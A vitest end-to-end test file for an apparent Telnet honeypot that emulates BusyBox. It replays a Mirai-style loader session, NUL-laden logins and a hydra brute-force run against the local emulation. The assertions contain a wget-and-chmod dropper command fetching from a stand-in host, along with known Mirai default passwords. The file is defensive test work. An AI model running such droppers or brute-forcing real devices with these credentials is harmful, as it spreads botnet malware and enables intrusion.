// End to end: corpus Telnet sessions (a Mirai-style loader, NUL-laden credentials), a client
// negotiating options over a Node socket, and hydra, against the BusyBox Telnet emulation.

import { execFile, spawnSync } from 'node:child_process';
import { connect, createServer, type Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { corpusBytes } from '../src/protocols/test-corpus.js';
import type { MitsuEvent } from '../src/events/event.js';
import { exportEvents, freePort, startSensor, type RunningSensor } from
  './helpers/sensor.js';

const HOST = '127.0.1.1';
const HAS_HYDRA = spawnSync('sh', ['-c', 'command -v hydra']).status === 0;
const IAC = 0xff;
/** One of the Telnet descriptor's usual ports: hydra waits for a prompt, which silent clients
 * are given by port. */
const TELNET_PORT = 2323;

function canListen(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const server = createServer();
    server.once('error', () => resolve(false));
    server.listen({ host: HOST, port }, () => server.close(() => resolve(true)));
  });
}

/** A client that reads what the server says and waits for a given text before going on. */
class Client {
  readonly #socket: Socket;
  #seen = Buffer.alloc(0);

  constructor(socket: Socket) {
    this.#socket = socket;
    socket.on('data', (chunk: Buffer) => {
      this.#seen = Buffer.concat([this.#seen, chunk]);
    });
  }

  static open(port: number): Promise<Client> {
    return new Promise((resolve, reject) => {
      const socket = connect({ host: HOST, port }, () => resolve(new Client(socket)));
      socket.on('error', reject);
    });
  }

  get text(): string {
    return this.#seen.toString('latin1');
  }

  send(bytes: Buffer | string): void {
    this.#socket.write(bytes);
  }

  /** Resolves once `text` has appeared `times` times in everything received. */
  async waitFor(text: string, times = 1): Promise<void> {
    for (let i = 0; i < 200; i++) {
      if (this.text.split(text).length > times) return;
      await new Promise((r) => setTimeout(r, 50));
    }
    throw new Error(`never saw ${JSON.stringify(text)}`);
  }

  close(): Promise<void> {
    return new Promise((resolve) => {
      this.#socket.once('close', () => resolve());
      this.#socket.end();
    });
  }
}

describe('Telnet clients against the BusyBox emulation', () => {
  let sensor: RunningSensor;
  let port: number;
  let events: MitsuEvent[] = [];
  let telnetPortFree = false;

  beforeAll(async () => {
    port = await freePort(HOST);
    telnetPortFree = await canListen(TELNET_PORT);
    const ports = telnetPortFree ? `tcp:${port},tcp:${TELNET_PORT}` : `tcp:${port}`;
    sensor = await startSensor({ ports, listen: HOST,
      config: { connection: { first_data_wait_ms: 300 } } });
  });

  afterAll(async () => {
    await sensor?.stop();
  });

  it('takes a Mirai-style loader from the corpus to its dropper', async () => {
    const client = await Client.open(port);
    client.send(corpusBytes('telnet-mirai-login-gafgyt-dropper'));
    // Wait for the answer itself: the bytes may arrive in several segments, each answered
    // with its own prompt, so counting prompts races with the server.
    await client.waitFor("wget: can't connect to remote host (198.51.100.170)");
    expect(client.text).toContain('# ');
    await client.close();
  });

  it('stores the corpus record with NULs in its credentials', async () => {
    const client = await Client.open(port);
    client.send(corpusBytes('adv-nul-bytes-telnet-and-path'));
    await client.waitFor('Login incorrect');
    await client.close();
  });

  it('negotiates options and answers the busybox probe after a login', async () => {
    const client = await Client.open(port);
    client.send(Buffer.from([IAC, 0xfb, 0x1f, IAC, 0xfa, 0x1f, 0, 132, 0, 43, IAC, 0xf0,
      IAC, 0xfb, 0x18]));
    client.send('admin\r\n');
    await client.waitFor('Password: ');
    client.send('admin\r\n');
    await client.waitFor('# ');
    client.send('/bin/busybox ECCHI\r\n');
    await client.waitFor('ECCHI: applet not found');
    const reply = client.text;
    expect(reply).toContain(String.fromCharCode(IAC, 0xfe, 0x18));
    await client.close();
  });

  // One password per run: hydra 9.4 loses its place when it retries on the same connection
  // (it sends "\r\0" as the next user name), against BusyBox as against this emulation.
  it.skipIf(!HAS_HYDRA)('is refused a wrong password and let in with a Mirai one by hydra ' +
    '(needs hydra, port 2323)', async (context) => {
    if (!telnetPortFree) context.skip();
    const hydra = (password: string) => new Promise<string>((resolve) => {
      execFile('hydra', ['-l', 'root', '-p', password, '-t', '1', '-I',
        `telnet://${HOST}:${TELNET_PORT}`], { timeout: 60_000 }, (_err, stdout) => resolve(stdout));
    });
    expect(await hydra('hunter2')).toContain('0 valid password found');
    expect(await hydra('xc3511')).toContain('1 valid password found');
  }, 130_000);

  it('recorded credentials and commands in the exported events', async () => {
    await sensor.stop();
    events = exportEvents(sensor.db);
    expect(events.every((e) => e.protocol === 'telnet')).toBe(true);

    const mirai = events.find((e) => e.credentials.some((c) => c.password === 'vizxv'));
    expect(mirai?.commands[0]).toBe('sh');
    expect(mirai?.commands[1]).toContain('wget http://198.51.100.170/ISIS.sh; chmod 777 *;');

    const nul = events.find((e) => e.credentials.some((c) => c.username === 'root\\x00'));
    expect(nul?.credentials[0]?.password).toBe('\\x00\\x00admin\\x00pass');

    const probe = events.find((e) => e.commands.includes('/bin/busybox ECCHI'));
    expect(probe?.fields['window']).toEqual({ cols: 132, rows: 43 });
    expect(probe?.credentials).toEqual([{ username: 'admin', password: 'admin' }]);
  });

  it.skipIf(!HAS_HYDRA)('kept each password hydra tried (needs hydra, port 2323)',
    (context) => {
    if (!telnetPortFree) context.skip();
    const tried = events.flatMap((e) => e.credentials).filter((c) => c.username === 'root')
      .map((c) => c.password);
    for (const password of ['hunter2', 'xc3511']) expect(tried).toContain(password);
  });
});
